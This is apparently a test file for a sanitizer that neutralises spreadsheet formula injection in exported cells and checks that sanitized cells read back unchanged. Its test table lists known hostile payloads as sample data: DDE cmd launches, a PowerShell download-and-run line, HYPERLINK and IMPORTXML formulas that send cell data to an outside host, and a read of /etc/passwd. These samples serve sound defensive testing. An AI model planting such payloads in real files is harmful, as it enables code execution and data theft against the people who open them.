/** Cells of files that people open with a spreadsheet: none is run as a formula, and each can be read back. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fromSafeCell, safeCell } from '../../src/core/safe-cells.js';

describe('a payload that is known to be run', () => {
  test.each([
    ['a sum', '=1+1', "'=1+1"],
    ['a program, by Dynamic Data Exchange', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['the same behind a plus', "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['the same behind a minus', "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['the same behind an at', "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['PowerShell', "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "'=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0"],
    ['a link that takes other cells along', '=HYPERLINK("http://x.example/?v="&A1,"Error")', `'=HYPERLINK("http://x.example/?v="&A1,"Error")`],
    ['a page that is fetched', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', `'=IMPORTXML(CONCAT("http://x.example/",A1),"//a")`],
    ['a file that is read', "='file:///etc/passwd'#$passwd.A1", "''='file:///etc/passwd'#$passwd.A1".slice(1)],
    ['behind a tab', '\t=1+1', "'\t'=1+1"],
    ['behind a carriage return', '\r=1+1', "'\r'=1+1"],
    ['behind a line feed', '\n=1+1', "'\n'=1+1"],
    ['behind a blank', ' =1+1', "' =1+1"],
    ['behind a byte order mark', '\ufeff=1+1', "'\ufeff=1+1"],
    ['in full width', '＝1+1', "'＝1+1"],
    ['behind a semicolon, where that separates cells', 'Smith;=1+1', "Smith;'=1+1"],
    ['behind a line end within a cell', 'Smith\n=1+1', "Smith\n'=1+1"],
    ['that was made safe before', "'=1+1", "''=1+1"],
  ])('%s', (_, text, safe) => {
    expect(safeCell(text)).toBe(safe);
    expect(fromSafeCell(safe)).toBe(text);
  }); // biome-ignore format: a table
});

test.each([
  'Smith',
  'a=1',
  '2015-05-04',
  'O’Brien-Lee',
  "O'Brien",
  "'twas",
  '',
  'a; b',
  '(617) 555-0123',
  '617-555-0123',
])('%j stays as it is', (text) => {
  expect(safeCell(text)).toBe(text);
  expect(fromSafeCell(text)).toBe(text);
});

const cell = fc
  .array(fc.constantFrom("'", '=', '+', '-', '@', '＝', ' ', ';', '\t', '\r', '\n', '"', ',', 'a', '1'), {
    maxLength: 8,
  })
  .map((parts) => parts.join(''));

test('each cell can be read back', () => {
  fc.assert(
    fc.property(fc.oneof(cell, fc.string()), (text) => {
      expect(fromSafeCell(safeCell(text))).toBe(text);
    }),
  );
});

test('nothing is run, however a program takes a cell apart', () => {
  fc.assert(
    fc.property(cell, (text) => {
      for (const part of safeCell(text).split(/[;\t\r\n]/)) expect(part.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
    }),
  );
});
